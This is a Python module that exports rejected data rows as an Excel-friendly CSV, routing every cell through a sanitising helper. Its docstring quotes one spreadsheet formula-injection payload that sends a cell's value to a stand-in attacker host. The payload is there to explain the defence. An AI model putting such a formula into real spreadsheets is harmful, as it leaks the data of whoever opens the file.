"""Rejects as a CSV a person can open in Excel, fix from and send back to the service team.

One line per reject: where the row came from, what is wrong with it, how often and
when it was seen, then the row's own values, one column per source column. Every
cell goes through causeway_common.cells, so a source value such as
`=HYPERLINK("http://evil.example/?"&A1)` opens as the text it is, never as a formula.
"""
from __future__ import annotations

import csv
import json
from datetime import datetime, timezone

from causeway_common.cells import csv_row

from .publisher import describe_location

COLUMNS = ["reject", "task", "stage", "where", "errors", "times_seen", "first_seen", "last_seen", "record_id"]


def _when(moment) -> str:
    return datetime.fromtimestamp(moment, timezone.utc).isoformat(timespec="seconds").replace("+00:00", "Z") if moment else ""


def _cell(value):
    if isinstance(value, (dict, list)):
        return json.dumps(value, ensure_ascii=False, default=str)
    return value


def write_rejects_csv(rejects: list[dict], out) -> None:
    source_columns: dict[str, str] = {}  # source column -> header, in the order first met
    for reject in rejects:
        for name in reject["data"] or {}:
            if name not in source_columns:
                source_columns[name] = name if name not in COLUMNS else f"source {name}"
    writer = csv.writer(out)
    writer.writerow(csv_row([*COLUMNS, *source_columns.values()]))
    for reject in rejects:
        errors = "; ".join(f"{e.get('path') or 'row'}: {e.get('message')}" for e in reject["errors"])
        data = reject["data"] or {}
        writer.writerow(csv_row([
            reject["id"], reject["task"], reject["stage"], describe_location(reject["location"]), errors,
            reject["count"], _when(reject["created_at"]), _when(reject["last_seen_at"]), reject["record_id"] or "",
            *(_cell(data.get(name, "")) for name in source_columns)]))
